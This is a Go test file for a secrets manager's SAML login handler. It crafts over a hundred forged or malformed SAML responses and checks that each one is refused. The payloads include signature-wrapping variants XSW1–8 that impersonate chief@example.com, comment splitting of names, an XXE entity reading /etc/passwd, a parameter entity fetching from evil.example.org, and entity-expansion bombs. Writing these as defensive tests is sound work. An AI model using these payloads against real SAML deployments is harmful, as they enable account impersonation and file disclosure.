package saml_test

import (
	"crypto"
	"encoding/base64"
	"maps"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/beevik/etree"
	"github.com/crewjam/saml/xmlenc"

	"github.com/confidant-secrets/confidant/internal/authn"
	"github.com/confidant-secrets/confidant/internal/authn/saml"
	"github.com/confidant-secrets/confidant/internal/fault"
)

// what says which elements of a response are signed.
type what uint8

const (
	response what = 1 << iota
	assertion
)

// attack is a response that is accepted, and what an attacker makes of it: by
// his hold over the provider's words (before), over the signing (signer), over
// what is under way (after, raw, form), or over where it arrives (deliver).
type attack struct {
	name    string
	options func(*saml.Options)
	signs   what // 0: the response

	before  func(t *testing.T, root *etree.Element)
	signer  func(t *testing.T, s *signer)
	after   func(t *testing.T, root *etree.Element) *etree.Element
	raw     func(text string) string
	form    func(url.Values)
	deliver func(w *world, b browser, f url.Values)

	cause string // what the log says of the refusal
}

// signedAssertions is settings under which a signed assertion in an unsigned
// response is good.
func signedAssertions(o *saml.Options) { o.MessagesSigned, o.AssertionsSigned = false, true }

// anySignature is settings that demand no particular signature.
func anySignature(o *saml.Options) { o.MessagesSigned, o.AssertionsSigned = false, false }

func encrypting(t *testing.T) func(*saml.Options) {
	return func(o *saml.Options) { withKey(t)(o); signedAssertions(o) }
}

// set returns an edit that sets an attribute, or removes it if the value is "".
func set(path, name, value string) func(*testing.T, *etree.Element) {
	return func(t *testing.T, root *etree.Element) {
		el := root
		if path != "" {
			el = find(t, root, path)
		}
		el.RemoveAttr(name)
		if value != "" {
			el.CreateAttr(name, value)
		}
	}
}

func setText(path, text string) func(*testing.T, *etree.Element) {
	return func(t *testing.T, root *etree.Element) { find(t, root, path).SetText(text) }
}

func remove(path string) func(*testing.T, *etree.Element) {
	return func(t *testing.T, root *etree.Element) {
		el := find(t, root, path)
		el.Parent().RemoveChild(el)
	}
}

// add returns an edit that puts an element at the end of another.
func add(path, text string) func(*testing.T, *etree.Element) {
	return func(t *testing.T, root *etree.Element) { find(t, root, path).AddChild(tree(t, text)) }
}

// edited makes an edit one of a signed document.
func edited(edit func(*testing.T, *etree.Element)) func(*testing.T, *etree.Element) *etree.Element {
	return func(t *testing.T, root *etree.Element) *etree.Element {
		edit(t, root)
		return root
	}
}

// encryptedThen makes an edit one of a signed document whose assertion has been
// encrypted.
func encryptedThen(edit func(*testing.T, *etree.Element)) func(*testing.T, *etree.Element) *etree.Element {
	return func(t *testing.T, root *etree.Element) *etree.Element {
		encrypt(t, root, oaep())
		edit(t, root)
		return root
	}
}

func replace(old, new string) func(string) string {
	return func(text string) string { return strings.ReplaceAll(text, old, new) }
}

// evil returns a copy of a response or assertion that names the chief, without a
// signature of its own.
func evil(t *testing.T, el *etree.Element, id string) *etree.Element {
	c := el.Copy()
	c.CreateAttr("ID", id)
	if a := c.FindElement("./Assertion"); a != nil {
		a.CreateAttr("ID", id+"_assertion")
	}
	c.CreateAttr("xmlns:saml", "urn:oasis:names:tc:SAML:2.0:assertion")
	find(t, c, ".//NameID").SetText("chief@example.com")
	find(t, c, ".//AttributeValue").SetText("chief@example.com")
	if s := c.FindElement("./Signature"); s != nil {
		c.RemoveChild(s)
	}
	return c
}

// cut takes the signature out of an element.
func cut(t *testing.T, el *etree.Element) *etree.Element {
	s := find(t, el, "./Signature")
	el.RemoveChild(s)
	return s
}

const (
	chief      = "chief@example.com"
	split      = chief + ".evil.org"
	data       = ".//SubjectConfirmationData"
	audience   = ".//Audience"
	ciphertext = ".//EncryptedData/CipherData/CipherValue"
	hundredK   = 100_000
)

func attacks(t *testing.T) []attack {
	return []attack{
		// Signature wrapping, numbered as by Somorovsky and others, "On Breaking
		// SAML: Be Whoever You Want to Be" (USENIX Security 2012).
		{name: "XSW1: the signed response within the signature", cause: "where none belongs", after: func(t *testing.T, root *etree.Element) *etree.Element {
			e, s := evil(t, root, "_evil"), cut(t, root)
			s.AddChild(root)
			e.InsertChildAt(1, s)
			return e
		}},
		{name: "XSW2: the signed response beside the signature", cause: "where none belongs", after: func(t *testing.T, root *etree.Element) *etree.Element {
			e, s := evil(t, root, "_evil"), cut(t, root)
			e.InsertChildAt(1, root)
			e.InsertChildAt(2, s)
			return e
		}},
		{name: "XSW3: another assertion before the signed one", options: signedAssertions, signs: assertion, cause: "2 assertions", after: edited(func(t *testing.T, root *etree.Element) {
			a := find(t, root, "./Assertion")
			root.InsertChildAt(a.Index(), evil(t, a, "_evil"))
		})},
		{name: "XSW4: the signed assertion within another", options: signedAssertions, signs: assertion, cause: "where none belongs", after: edited(func(t *testing.T, root *etree.Element) {
			a := find(t, root, "./Assertion")
			e := evil(t, a, "_evil")
			root.RemoveChild(a)
			e.AddChild(a)
			root.AddChild(e)
		})},
		{name: "XSW5: the signature in another assertion, the signed one behind it", options: signedAssertions, signs: assertion, cause: "2 assertions", after: edited(func(t *testing.T, root *etree.Element) {
			a := find(t, root, "./Assertion")
			e, s := evil(t, a, "_evil"), cut(t, a)
			e.InsertChildAt(1, s)
			root.InsertChildAt(a.Index(), e)
		})},
		{name: "XSW6: the signed assertion within the signature of another", options: signedAssertions, signs: assertion, cause: "where none belongs", after: edited(func(t *testing.T, root *etree.Element) {
			a := find(t, root, "./Assertion")
			e, s := evil(t, a, "_evil"), cut(t, a)
			root.RemoveChild(a)
			s.AddChild(a)
			e.InsertChildAt(1, s)
			root.AddChild(e)
		})},
		{name: "XSW7: another assertion in the extensions", options: signedAssertions, signs: assertion, cause: "where none belongs", after: edited(func(t *testing.T, root *etree.Element) {
			a := find(t, root, "./Assertion")
			extensions := etree.NewElement("samlp:Extensions")
			extensions.AddChild(evil(t, a, "_evil"))
			root.InsertChildAt(a.Index(), extensions)
		})},
		{name: "XSW8: the signed assertion in an object of the signature", options: signedAssertions, signs: assertion, cause: "where none belongs", after: edited(func(t *testing.T, root *etree.Element) {
			a := find(t, root, "./Assertion")
			e, s := evil(t, a, "_evil"), cut(t, a)
			root.RemoveChild(a)
			s.CreateElement("ds:Object").AddChild(a)
			e.InsertChildAt(1, s)
			root.AddChild(e)
		})},
		{name: "the assertion twice", options: signedAssertions, signs: assertion, cause: "ID stands twice", after: edited(func(t *testing.T, root *etree.Element) {
			root.AddChild(find(t, root, "./Assertion").Copy())
		})},
		{name: "another assertion behind the signed one", options: anySignature, signs: assertion, cause: "2 assertions", after: edited(func(t *testing.T, root *etree.Element) {
			root.AddChild(evil(t, find(t, root, "./Assertion"), "_evil"))
		})},
		{name: "another assertion of no namespace", options: signedAssertions, signs: assertion, cause: "where none belongs", after: edited(add(".", `<Assertion xmlns="" ID="_evil"/>`))},
		{name: "another assertion behind an encrypted one", options: encrypting(t), signs: assertion, cause: "2 assertions", after: edited(func(t *testing.T, root *etree.Element) {
			e := evil(t, find(t, root, "./Assertion"), "_evil")
			encrypt(t, root, oaep())
			root.AddChild(e)
		})},
		{name: "the response's signature over its assertion", cause: "refers to something else", after: func(t *testing.T, root *etree.Element) *etree.Element {
			cut(t, root)
			a := find(t, root, "./Assertion")
			goodSigner(t).sign(t, a)
			root.InsertChildAt(1, cut(t, a))
			return root
		}},
		{name: "an ID with a prefix", cause: "prefix", after: edited(set("", "samlp:ID", "_evil"))},

		// Text that is read otherwise than it was signed.
		{name: "a comment in the name", cause: "comment", before: setText(".//NameID", split), raw: replace(split, chief+"<!-- -->.evil.org")},
		{name: "a comment in the address", cause: "comment", before: setText(".//AttributeValue", split), raw: replace(split, chief+"<!-- -->.evil.org")},
		{name: "a signed comment", cause: "comment", signer: func(_ *testing.T, s *signer) {
			s.c14n, s.transforms = excC14N+"WithComments", []string{enveloped, excC14N + "WithComments"}
		}, before: func(t *testing.T, root *etree.Element) {
			find(t, root, ".//NameID").AddChild(etree.NewComment("x"))
		}},
		{name: "canonicalization with comments", cause: "canonicalization", signer: func(_ *testing.T, s *signer) {
			s.c14n = excC14N + "WithComments"
		}},
		{name: "a transform with comments", cause: "transforms", signer: func(_ *testing.T, s *signer) {
			s.transforms = []string{enveloped, excC14N + "WithComments"}
		}},
		{name: "a processing instruction in the name", cause: "processing instruction", before: setText(".//NameID", split), raw: replace(split, chief+"<?x y?>.evil.org")},
		{name: "an element in the address", cause: "nobody", before: func(t *testing.T, root *etree.Element) {
			remove(".//NameID")(t, root)
			find(t, root, ".//AttributeValue").SetText(chief)
			find(t, root, ".//AttributeValue").CreateElement("x")
		}, options: func(o *saml.Options) { o.RawSettings = []byte(`{"security":{"wantNameId":false}}`) }},
		{name: "two addresses in one", cause: "nobody", before: setText(".//AttributeValue", chief+",user@example.com")},
		{name: "a prefix that is not declared", cause: "provider's keys", raw: replace("<samlp:Status>", "<samlp:Status><zz:x/>")},
		{name: "an attribute that stands twice", cause: "stands twice", raw: replace(`Version="2.0"`, `Version="2.0" Version="2.0"`)},

		// Whom it is for and from.
		{name: "wrong audience", cause: "another audience", before: setText(audience, "https://other.example.com")},
		{name: "audience with a slash more", cause: "another audience", before: setText(audience, root+"/v1/saml/metadata/")},
		{name: "no audience", cause: "another audience", before: remove(audience)},
		{name: "no audience restriction", cause: "no audience", before: remove(".//AudienceRestriction")},
		{name: "a second audience restriction", cause: "another audience", before: add(".//Conditions", `<saml:AudienceRestriction><saml:Audience>x</saml:Audience></saml:AudienceRestriction>`)},
		{name: "no conditions", cause: "no Conditions", before: remove(".//Conditions")},
		{name: "a condition nobody knows", cause: "not known", before: add(".//Conditions", `<saml:Condition/>`)},
		{name: "wrong recipient", cause: "recipient", before: set(data, "Recipient", "https://other.example.com/v1/saml/consume")},
		{name: "no recipient", cause: "recipient", before: set(data, "Recipient", "")},
		{name: "wrong issuer of the response", cause: "issuer of the Response", before: setText("./Issuer", "https://other.example.com")},
		{name: "no issuer of the signed response", cause: "no Issuer in the Response", before: remove("./Issuer")},
		{name: "wrong issuer of the assertion", cause: "issuer of the Assertion", before: setText("./Assertion/Issuer", "https://other.example.com")},
		{name: "no text in the issuer", cause: "issuer of the Assertion", before: setText("./Assertion/Issuer", "")},
		{name: "wrong destination", cause: "destination", before: set("", "Destination", "https://other.example.com/v1/saml/consume")},
		{name: "no destination", cause: "destination", before: set("", "Destination", "")},
		{name: "a name for another service", cause: "another service", before: set(".//NameID", "SPNameQualifier", "https://other.example.com")},
		{name: "not confirmed as bearer", cause: "bearer", before: set(".//SubjectConfirmation", "Method", "urn:oasis:names:tc:SAML:2.0:cm:sender-vouches")},
		{name: "not confirmed at all", cause: "bearer", before: remove(".//SubjectConfirmation")},
		{name: "no confirmation data", cause: "no SubjectConfirmationData", before: remove(data)},

		// What it answers.
		{name: "the assertion answers another request", cause: "assertion answers another", before: set(data, "InResponseTo", "_other")},
		{name: "the assertion answers nothing", cause: "assertion answers another", before: set(data, "InResponseTo", "")},
		{name: "the response is unsolicited", cause: "no request of ours", before: set("", "InResponseTo", "")},
		{name: "the response answers a request that never was", cause: "cookie", before: set("", "InResponseTo", "_"+strings.Repeat("A", 43))},
		{name: "the response answers something else", cause: "usable id", before: set("", "InResponseTo", "_x")},
		{name: "posted twice", cause: "not kept", deliver: func(w *world, b browser, f url.Values) {
			kept := maps.Clone(b)
			b.post(w, f)
			if w.err != nil {
				w.t.Errorf("the first time: %v", w.err)
			}
			kept.post(w, f)
		}},
		{name: "an old assertion in the next log-in", options: signedAssertions, signs: assertion, cause: "assertion answers another", deliver: func(w *world, b browser, f url.Values) {
			old, _ := base64.StdEncoding.DecodeString(f.Get("SAMLResponse"))
			doc := tree(w.t, string(old))
			doc.CreateAttr("InResponseTo", b.request(w))
			b.post(w, form(serialize(w.t, doc)))
		}},
		{name: "another browser", cause: "cookie", deliver: func(w *world, _ browser, f url.Values) {
			thief := browser{}
			thief.request(w)
			thief.post(w, f)
		}},
		{name: "another browser with a made-up cookie", cause: "another browser", deliver: func(w *world, b browser, f url.Values) {
			thief := browser{}
			for name := range b {
				thief[name] = strings.Repeat("A", 43)
			}
			thief.post(w, f)
		}},
		{name: "a browser without cookies", cause: "no cookies", deliver: func(w *world, _ browser, f url.Values) { browser{}.post(w, f) }},
		{name: "eleven minutes later", cause: "no longer", deliver: func(w *world, b browser, f url.Values) {
			w.now = noon.Add(11 * time.Minute)
			b.post(w, f)
		}},

		// When.
		{name: "confirmation over", cause: "SubjectConfirmationData holds no longer", before: set(data, "NotOnOrAfter", at(-5*time.Minute))},
		{name: "confirmation without end", cause: "no end", before: set(data, "NotOnOrAfter", "")},
		{name: "confirmation not yet", cause: "SubjectConfirmationData does not hold yet", before: set(data, "NotBefore", at(5*time.Minute+time.Second))},
		{name: "conditions over", cause: "Conditions holds no longer", before: set(".//Conditions", "NotOnOrAfter", at(-5*time.Minute))},
		{name: "conditions not yet", cause: "Conditions does not hold yet", before: set(".//Conditions", "NotBefore", at(5*time.Minute+time.Second))},
		{name: "a moment that is none", cause: "not a moment", before: set(".//Conditions", "NotBefore", "yesterday")},
		{name: "response from the future", cause: "Response is from the future", before: set("", "IssueInstant", at(5*time.Minute+time.Second))},
		{name: "response older than the request", cause: "Response is too old", before: set("", "IssueInstant", at(-5*time.Minute-time.Second))},
		{name: "response without a date", cause: "does not say when", before: set("", "IssueInstant", "")},
		{name: "assertion from the future", cause: "Assertion is from the future", before: set("./Assertion", "IssueInstant", at(time.Hour))},
		{name: "assertion older than the request", cause: "Assertion is too old", before: set("./Assertion", "IssueInstant", at(-time.Hour))},
		{name: "session at the provider over", cause: "session", before: set(".//AuthnStatement", "SessionNotOnOrAfter", at(-time.Hour))},

		// Signatures.
		{name: "nothing signed", cause: "response is not signed", after: edited(func(t *testing.T, root *etree.Element) { cut(t, root) })},
		{name: "nothing signed where any signature is enough", options: anySignature, cause: "neither", after: edited(func(t *testing.T, root *etree.Element) { cut(t, root) })},
		{name: "response not signed as demanded", signs: response | assertion, cause: "response is not signed", after: edited(func(t *testing.T, root *etree.Element) { cut(t, root) })},
		{name: "assertion not signed as demanded", options: func(o *saml.Options) { o.AssertionsSigned = true }, signs: response | assertion, cause: "assertion is not signed", after: edited(func(t *testing.T, root *etree.Element) {
			cut(t, root)
			cut(t, find(t, root, "./Assertion"))
			goodSigner(t).sign(t, root)
		})},
		{name: "good assertion in a response with a bad signature", options: anySignature, signs: response | assertion, cause: "provider's keys", after: edited(set("", "Consent", "x"))},
		{name: "bad assertion in a response with a good signature", options: anySignature, signs: response | assertion, cause: "provider's keys", after: edited(func(t *testing.T, root *etree.Element) {
			cut(t, root)
			find(t, root, ".//AttributeValue").SetText(chief)
			goodSigner(t).sign(t, root)
		})},
		{name: "changed after it was signed", cause: "provider's keys", after: edited(setText(".//AttributeValue", chief))},
		{name: "another assertion's name in a signed one", options: signedAssertions, signs: assertion, cause: "provider's keys", after: edited(setText(".//NameID", chief))},
		{name: "another key", cause: "provider's keys", signer: func(t *testing.T, s *signer) { s.key, s.cert = rsaKey(t, "other"), nil }},
		{name: "another key with its certificate", cause: "provider's keys", signer: func(t *testing.T, s *signer) { s.key, s.cert = rsaKey(t, "other"), certificate(t, "other") }},
		{name: "another key with the provider's certificate", cause: "provider's keys", signer: func(t *testing.T, s *signer) { s.key = rsaKey(t, "other") }},
		{name: "our own key", options: withKey(t), cause: "provider's keys", signer: func(t *testing.T, s *signer) { s.key, s.cert = rsaKey(t, "sp"), certificate(t, "sp") }},
		{name: "HMAC with the public key", cause: "algorithm", signer: func(t *testing.T, s *signer) {
			s.method, s.hmacKey = "http://www.w3.org/2000/09/xmldsig#hmac-sha1", []byte(file(t, "idp.crt"))
		}},
		{name: "SHA-1 signature", cause: "algorithm", signer: func(_ *testing.T, s *signer) {
			s.method, s.hash = "http://www.w3.org/2000/09/xmldsig#rsa-sha1", crypto.SHA1
		}},
		{name: "SHA-1 digest", cause: "digest", signer: func(_ *testing.T, s *signer) {
			s.digest, s.digestHash = "http://www.w3.org/2000/09/xmldsig#sha1", crypto.SHA1
		}},
		{name: "no algorithm", cause: "algorithm", signer: func(_ *testing.T, s *signer) { s.method = "none" }},
		{name: "ECDSA named over an RSA signature", cause: "algorithm", signer: func(_ *testing.T, s *signer) { s.method = "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256" }},
		{name: "no signature value", cause: "provider's keys", after: edited(setText("./Signature/SignatureValue", ""))},
		{name: "no element for the signature value", cause: "no SignatureValue", after: edited(remove("./Signature/SignatureValue"))},
		{name: "two signature values", cause: "several SignatureValue", after: edited(add("./Signature", `<ds:SignatureValue>AA==</ds:SignatureValue>`))},
		{name: "two signatures", cause: "several Signature", after: edited(func(t *testing.T, root *etree.Element) { root.AddChild(find(t, root, "./Signature").Copy()) })},
		{name: "an object in the signature", cause: "Object", after: edited(add("./Signature", `<ds:Object/>`))},
		{name: "two references", cause: "several Reference", signer: func(_ *testing.T, s *signer) {
			s.edit = func(info *etree.Element) { info.AddChild(info.FindElement("./Reference").Copy()) }
		}},
		{name: "a reference to the whole document", cause: "something else", signer: func(_ *testing.T, s *signer) {
			s.edit = func(info *etree.Element) { info.FindElement("./Reference").CreateAttr("URI", "") }
		}},
		{name: "a reference to another element", cause: "something else", signer: func(_ *testing.T, s *signer) { s.uri = "#_assertion" }},
		{name: "an XPath transform", cause: "transforms", signer: func(_ *testing.T, s *signer) {
			s.transforms = []string{enveloped, "http://www.w3.org/TR/1999/REC-xpath-19991116", excC14N}
		}},
		{name: "an XSLT transform", cause: "transforms", signer: func(_ *testing.T, s *signer) {
			s.transforms = []string{"http://www.w3.org/TR/1999/REC-xslt-19991116", excC14N}
		}},
		{name: "no transforms", cause: "transforms", signer: func(_ *testing.T, s *signer) {
			s.edit = func(info *etree.Element) {
				list := info.FindElement("./Reference/Transforms")
				for _, transform := range list.ChildElements() {
					list.RemoveChild(transform)
				}
			}
		}},
		{name: "inclusive canonicalization", cause: "canonicalization", signer: func(_ *testing.T, s *signer) { s.c14n = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315" }},

		// Documents that are none, or are meant to do harm.
		{name: "entity expansion", cause: "document type", raw: func(text string) string {
			return `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>` + strings.ReplaceAll(text, "User@", "&b;@")
		}},
		{name: "external entity", cause: "document type", raw: func(text string) string {
			return `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>` + strings.ReplaceAll(text, "User@", "&e;@")
		}},
		{name: "parameter entity", cause: "document type", raw: func(text string) string {
			return `<!DOCTYPE x [<!ENTITY % e SYSTEM "https://evil.example.org/x"> %e;]>` + text
		}},
		{name: "an entity that is not declared", cause: "reading the document", raw: replace("User@", "&e;@")},
		{name: "oversized", cause: "too large", raw: func(text string) string { return text + strings.Repeat(" ", 600_000) }},
		{name: "oversized form", cause: "too large", form: func(f url.Values) { f.Set("x", strings.Repeat("x", 2_000_000)) }},
		{name: "elements without end", cause: "too many elements", raw: replace("</samlp:Status>", "</samlp:Status>"+strings.Repeat("<x>", hundredK))},
		{name: "elements side by side", cause: "too many elements", raw: replace("</samlp:Status>", "</samlp:Status>"+strings.Repeat("<x/>", hundredK))},
		{name: "attributes without end", cause: "too many attributes", raw: replace("<samlp:Status>", "<samlp:Status "+manyAttributes("")+">")},
		{name: "prefixes without end", cause: "too many", raw: replace("<samlp:Status>", "<samlp:Status><x "+manyAttributes("xmlns:a")+"><y "+manyAttributes("xmlns:b")+"/></x>")},
		{name: "a name without end", cause: "too long", raw: replace("<samlp:Status>", "<samlp:Status><"+strings.Repeat("x", 1000)+"/>")},
		{name: "a name of a colon and more", cause: "colon", raw: replace("<samlp:Status>", "<samlp:Status><:c/>")},
		{name: "a name with two colons", cause: "reading the document", raw: replace("<samlp:Status>", "<samlp:Status><a:b:c/>")},
		{name: "not base64", cause: "not base64", form: func(f url.Values) { f.Set("SAMLResponse", "%%%") }},
		{name: "not XML", cause: "beside its root", raw: func(string) string { return "foo < bar" }},
		{name: "nothing", cause: "not whole", raw: func(string) string { return " " }},
		{name: "half of it", cause: "not whole", raw: replace("</samlp:Response>", "")},
		{name: "two roots", cause: "too many elements", raw: func(text string) string { return text + text }},
		{name: "text behind the root", cause: "beside its root", raw: func(text string) string { return text + "x" }},
		{name: "not UTF-8", cause: "UTF-8", raw: replace("User@", "User\xff@")},
		{name: "another encoding declared", cause: "encoding", raw: func(text string) string { return `<?xml version="1.0" encoding="UTF-7"?>` + text }},
		{name: "an XML declaration within", cause: "processing instruction", raw: replace("<samlp:Status>", `<samlp:Status><?xml version="1.0"?>`)},
		{name: "two responses in the form", cause: "several responses", form: func(f url.Values) { f.Add("SAMLResponse", f.Get("SAMLResponse")) }},

		// What it says.
		{name: "the user was not authenticated", cause: "no success", before: set(".//StatusCode", "Value", "urn:oasis:names:tc:SAML:2.0:status:Responder")},
		{name: "no status", cause: "no Status", before: remove("./Status")},
		{name: "no assertion", cause: "0 assertions", before: remove("./Assertion")},
		{name: "no attributes", cause: "no attributes", before: remove(".//AttributeStatement")},
		{name: "no statement that the user authenticated", cause: "no AuthnStatement", before: remove(".//AuthnStatement")},
		{name: "no name", cause: "no name", before: remove(".//NameID")},
		{name: "two names", cause: "several NameID", before: add(".//Subject", `<saml:NameID>`+chief+`</saml:NameID>`)},
		{name: "two subjects", cause: "several Subject", before: add("./Assertion", `<saml:Subject/>`)},
		{name: "an attribute of the same name", cause: "stands twice", before: add(".//AttributeStatement", `<saml:Attribute Name="email"><saml:AttributeValue>`+chief+`</saml:AttributeValue></saml:Attribute>`)},
		{name: "SAML 1.1", cause: "version of the response", before: set("", "Version", "1.1")},
		{name: "SAML 1.1 within", cause: "version of the assertion", before: set("./Assertion", "Version", "1.1")},
		{name: "a response of another protocol", cause: "is a Response", raw: func(text string) string {
			return strings.ReplaceAll(text, "urn:oasis:names:tc:SAML:2.0:protocol", "urn:oasis:names:tc:SAML:1.0:protocol")
		}},
		{name: "an assertion alone", cause: "no request of ours", signs: assertion, options: anySignature, after: func(t *testing.T, root *etree.Element) *etree.Element {
			return find(t, root, "./Assertion")
		}},

		// Encryption.
		{name: "encrypted and not signed", options: encrypting(t), signs: assertion, cause: "assertion is not signed", after: edited(func(t *testing.T, root *etree.Element) {
			cut(t, find(t, root, "./Assertion"))
			encrypt(t, root, oaep())
		})},
		{name: "key encrypted with PKCS #1 v1.5", options: encrypting(t), signs: assertion, cause: "encryption of a key", after: edited(func(t *testing.T, root *etree.Element) {
			encrypt(t, root, xmlenc.PKCS1v15())
		})},
		{name: "ciphertext cut", options: encrypting(t), signs: assertion, cause: "cannot be decrypted", after: edited(func(t *testing.T, root *etree.Element) {
			encrypt(t, root, oaep())
			setText(".//EncryptedData/CipherData/CipherValue", "AAAA")(t, root)
		})},
		{name: "encrypted key replaced", options: encrypting(t), signs: assertion, cause: "cannot be decrypted", after: edited(func(t *testing.T, root *etree.Element) {
			encrypt(t, root, oaep())
			setText(".//EncryptedKey/CipherData/CipherValue", "AAAA")(t, root)
		})},
		{name: "ciphertext of no whole blocks", options: encrypting(t), signs: assertion, cause: "cannot be decrypted", after: encryptedThen(setText(ciphertext, strings.Repeat("A", 64)))},
		{name: "ciphertext of another key", options: encrypting(t), signs: assertion, cause: "", after: encryptedThen(setText(ciphertext, strings.Repeat("A", 128)))},
		{name: "ciphertext that is no base64", options: encrypting(t), signs: assertion, cause: "not base64", after: encryptedThen(setText(ciphertext, "*"))},
		{name: "no ciphertext", options: encrypting(t), signs: assertion, cause: "no CipherValue", after: encryptedThen(remove(ciphertext))},
		{name: "ciphertext elsewhere", options: encrypting(t), signs: assertion, cause: "no CipherData", after: encryptedThen(func(t *testing.T, root *etree.Element) {
			find(t, root, ".//EncryptedData/CipherData").Tag = "CipherReference"
		})},
		{name: "encrypted with an algorithm of another key length", options: encrypting(t), signs: assertion, cause: "cannot be decrypted", after: encryptedThen(set(".//EncryptedData/EncryptionMethod", "Algorithm", "http://www.w3.org/2001/04/xmlenc#aes256-cbc"))},
		{name: "CBC ciphertext passed off as GCM", options: encrypting(t), signs: assertion, cause: "cannot be decrypted", after: encryptedThen(set(".//EncryptedData/EncryptionMethod", "Algorithm", "http://www.w3.org/2009/xmlenc11#aes128-gcm"))},
		{name: "encrypted with Triple DES", options: encrypting(t), signs: assertion, cause: "encryption of a part", after: encryptedThen(set(".//EncryptedData/EncryptionMethod", "Algorithm", "http://www.w3.org/2001/04/xmlenc#tripledes-cbc"))},
		{name: "encrypted without an algorithm", options: encrypting(t), signs: assertion, cause: "encryption of a part", after: encryptedThen(remove(".//EncryptedData/EncryptionMethod"))},
		{name: "key encrypted under an unknown hash", options: encrypting(t), signs: assertion, cause: "hash", after: encryptedThen(set(".//EncryptedKey/EncryptionMethod/DigestMethod", "Algorithm", "x"))},
		{name: "key encrypted with parameters", options: encrypting(t), signs: assertion, cause: "parameter", after: encryptedThen(add(".//EncryptedKey/EncryptionMethod", `<xenc:OAEPParams>AAAA</xenc:OAEPParams>`))},
		{name: "two encrypted keys", options: encrypting(t), signs: assertion, cause: "2 keys", after: encryptedThen(add("./EncryptedAssertion", `<xenc:EncryptedKey xmlns:xenc="http://www.w3.org/2001/04/xmlenc#"/>`))},
		{name: "no encrypted key", options: encrypting(t), signs: assertion, cause: "0 keys", after: encryptedThen(remove(".//EncryptedKey"))},
		{name: "something else encrypted", options: encrypting(t), signs: assertion, cause: "not an assertion", after: edited(func(t *testing.T, root *etree.Element) {
			a := find(t, root, "./Assertion")
			root.InsertChildAt(a.Index(), find(t, a, ".//NameID"))
			root.RemoveChild(a)
			hide(t, find(t, root, "./NameID"), "EncryptedAssertion", oaep())
		})},
		{name: "an assertion within the encrypted one", options: encrypting(t), signs: assertion, cause: "where none belongs", after: edited(func(t *testing.T, root *etree.Element) {
			a := find(t, root, "./Assertion")
			a.AddChild(evil(t, a, "_evil"))
			encrypt(t, root, oaep())
		})},
		{name: "encrypted although there is no key", options: signedAssertions, signs: assertion, cause: "no key", after: edited(func(t *testing.T, root *etree.Element) { encrypt(t, root, oaep()) })},
	}
}

func manyAttributes(prefix string) string {
	var b strings.Builder
	for i := range 60 {
		name := prefix + "x" + string(rune('a'+i%26)) + string(rune('a'+i/26))
		b.WriteString(name + `="x" `)
	}
	if prefix == "" {
		return b.String() + strings.ReplaceAll(b.String(), `="x"`, `y="x"`)
	}
	return b.String()
}

// run lets the provider answer a request, with the attack or without it, and
// delivers the answer.
func (a attack) run(t *testing.T, armed bool) *world {
	t.Helper()
	w, b := newWorld(t, func(o *saml.Options) {
		if a.options != nil {
			a.options(o)
		}
	}), browser{}
	doc := newResponse(t, b.request(w))
	s := goodSigner(t)
	if armed && a.before != nil {
		a.before(t, doc)
	}
	if armed && a.signer != nil {
		a.signer(t, &s)
	}
	if a.signs&assertion != 0 {
		s.sign(t, find(t, doc, "./Assertion"))
	}
	if a.signs == 0 || a.signs&response != 0 {
		s.sign(t, doc)
	}
	if armed && a.after != nil {
		doc = a.after(t, doc)
	}
	text := serialize(t, doc)
	if armed && a.raw != nil {
		text = a.raw(text)
	}
	f := form(text)
	if armed && a.form != nil {
		a.form(f)
	}
	if armed && a.deliver != nil {
		a.deliver(w, b, f)
	} else {
		b.post(w, f)
	}
	return w
}

func TestConsume_RefusesEveryAttack(t *testing.T) {
	t.Parallel()
	table := attacks(t)
	if len(table) < 45 {
		t.Errorf("the table has %d attacks; want 45 at least", len(table))
	}
	t.Cleanup(func() { // once all have been tried
		if !t.Failed() {
			t.Logf("%d attacks refused", len(table))
		}
	})
	for _, a := range table {
		t.Run(a.name, func(t *testing.T) {
			t.Parallel()
			if w := a.run(t, false); w.err != nil || w.identity.Name != "user@example.com" {
				t.Fatalf("unmutated: %q, %v; want it accepted", w.identity.Name, w.err)
			}
			w := a.run(t, true)
			if !fault.Is(w.err, fault.Unauthenticated) || w.identity != (authn.Identity{}) {
				t.Fatalf("%+v, %v; want it refused as Unauthenticated", w.identity, w.err)
			}
			if !strings.Contains(w.err.Error(), a.cause) {
				t.Errorf("refused because of %q; want because of %q", w.err, a.cause)
			}
		})
	}
}
